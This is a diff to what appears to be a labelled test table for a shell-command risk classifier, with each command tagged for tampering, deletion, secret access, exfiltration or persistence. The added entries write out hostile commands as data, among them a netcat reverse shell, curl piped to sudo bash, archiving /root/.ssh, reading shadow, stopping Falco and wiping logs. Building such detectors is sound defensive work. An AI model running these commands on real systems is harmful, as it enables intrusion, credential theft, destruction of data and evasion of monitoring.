@@ -67,7 +67,7 @@ set +o history -> tamper
 ln -sf /dev/null ~/.bash_history -> tamper
 rm -f /var/log/auth.log -> tamper delete : /var/log/auth.log
 > /var/log/wtmp -> tamper delete write
-sed -i /mallory/d /var/log/secure -> tamper write
+sed -i /mallory/d /var/log/secure -> tamper write delete
 journalctl --vacuum-time=1s -> tamper delete
 journalctl -u nginx -> read : nginx
 auditctl -e 0 -> tamper
@@ -134,6 +134,20 @@ tailscale up -> network persistence
 python3.11 run.py -> exec : run.py
 mkfs.btrfs /dev/sdb -> delete write exec : /dev/sdb
 wazuh-control stop -> tamper exec
+kubectl -n kube-system delete ds falco -> delete tamper
+docker stop falco -> exec tamper
+getent shadow -> secret read
+tar czf /tmp/k.tgz /root/.ssh -> secret read write
+grep password app.log -> read : app.log
+grep -r password /srv -> secret read : /srv
+rsync -a --delete empty/ /data/ -> delete read write
+python3 -c "import shutil; shutil.rmtree('/data')" -> delete exec
+mysql -e "select a from users" > x.csv -> read write export : users x.csv
+tar cz /srv | openssl s_client -connect host:443 -> read write network export
+curl -s https://example.org/i.sh | sudo bash -> network read exec privilege
+mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 9 > f -> write read exec network export persistence
+ssh -fNR 2222:localhost:22 x@host -> network persistence exec
+tmux new -d 'rm x' -> delete exec
 git push --force origin main -> delete write network
 """
 
